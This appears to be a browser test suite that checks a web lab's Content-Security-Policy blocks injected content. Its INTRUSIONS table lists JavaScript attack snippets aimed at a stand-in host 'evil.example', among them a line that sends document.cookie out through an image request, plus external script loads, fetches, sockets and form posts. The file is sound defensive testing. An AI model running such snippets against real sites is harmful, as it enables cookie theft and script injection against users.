"""The Content-Security-Policy: nothing the suite does breaks it, and what an intruder would do does."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from labs.catalog import find_lab
from tests.browser.student import Student
from tests.browser.tour import tour

LAB = find_lab(1, 2)
REPORT = find_lab(2, 17)

#: How long a browser may take to note that something was stopped.
NOTED_SECONDS = 15

LISTEN = """
window.broken = []
document.addEventListener("securitypolicyviolation", (event) =>
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))
"""


def listening(student: Student) -> Student:
    """Has every page of this student note what breaks the policy."""
    student.page.add_init_script(LISTEN)
    return student


def broken(page: Page) -> list[str]:
    return page.evaluate("window.broken")


def test_no_state_of_a_lab_breaks_the_policy(new_student: Callable[..., Student]) -> None:
    """One lab here; a browser logs what breaks the policy, and no test of any lab passes with an error in that log."""
    student = listening(new_student(lab=LAB))
    for state in tour(student):
        assert broken(student.page) == [], state


def test_no_other_page_breaks_the_policy(new_student: Callable[..., Student]) -> None:
    student = listening(new_student(lab=REPORT))
    page = student.page
    student.watch.allow("404", "a page that does not exist is asked for")
    student.opens_index()
    assert broken(page) == []
    page.goto(f"{student.server.url}/no-such-page")
    expect(page.get_by_role("heading", level=1)).to_have_text("There is no such page")
    assert broken(page) == []
    page.goto(f"{student.server.url}/gallery")
    page.get_by_role("button", name="Draw the instruments").first.click()
    expect(page.locator(".figure canvas").first).to_be_visible()
    assert broken(page) == []
    # The report, shown, saved and printed.
    student.has_come_to("saved").opens()
    student.goes_to("Ledger")
    page.evaluate("window.print = () => {}")
    with page.expect_download():
        student.panel.get_by_role("button", name="Save report").click()
    student.panel.get_by_role("button", name="Print", exact=True).click()
    assert broken(page) == []


INTRUSIONS = {
    "an inline script": (
        "const s = document.createElement('script'); s.textContent = 'window.intruded = true'; document.body.append(s)",
        "script-src-elem inline",
    ),
    "a script of another site": (
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "script-src-elem https://evil.example/x.js",
    ),
    "an attribute that is a script": (
        "const b = document.createElement('button'); b.setAttribute('onclick', 'window.intruded = true');"
        "document.body.append(b); b.click()",
        "script-src-attr inline",
    ),
    "text as a program": (
        "setTimeout(() => { try { (0, eval)('window.intruded = true') } catch (_) {} })",
        "script-src eval",
    ),
    "a picture of another site": (
        "new Image().src = 'https://evil.example/?' + document.cookie",
        "img-src https://evil.example/",
    ),
    "data to another site": ("fetch('https://evil.example/').catch(() => {})", "connect-src https://evil.example/"),
    "a socket to another site": (
        "try { new WebSocket('wss://evil.example/') } catch (_) {}",
        "connect-src wss://evil.example/",
    ),
    "a form to another site": (
        "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f);"
        "f.submit()",
        "form-action https://evil.example/",
    ),
    "a frame of another site": (
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
        "frame-src https://evil.example",
    ),
    "another base": (
        "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
        "base-uri https://evil.example",
    ),
    "a style sheet of another site": (
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css';"
        "document.head.append(l)",
        "style-src-elem https://evil.example/x.css",
    ),
    "a program in an object": (
        "const o = document.createElement('object'); o.data = '/favicon.ico'; document.body.append(o)",
        "object-src ",
    ),
}


def test_intrusions_are_stopped(new_student: Callable[..., Student]) -> None:
    student = listening(new_student(lab=LAB)).opens()
    student.watch.allow("Content Security Policy|another origin|evil.example", "this test intrudes")
    page = student.page
    for name, (script, expected) in INTRUSIONS.items():
        page.evaluate("window.broken = []")
        # A script of the page itself, as a hole in one would give to an intruder.
        page.evaluate(f"() => {{ {script} }}")
        deadline = time.monotonic() + NOTED_SECONDS
        while not any(line.startswith(expected) for line in broken(page)):
            assert time.monotonic() < deadline, (name, broken(page))
            page.wait_for_timeout(20)
    assert page.evaluate("window.intruded") is None


@pytest.fixture
def fetched(new_student: Callable[..., Student]) -> Iterator[Callable[[], str]]:
    student = new_student(lab=LAB)
    return lambda: student.page.request.get(student.server.address_of(LAB)).headers["content-security-policy"]


def test_the_mark_of_scripts_is_never_used_again(fetched: Callable[[], str]) -> None:
    assert len({fetched() for _ in range(3)}) == 3
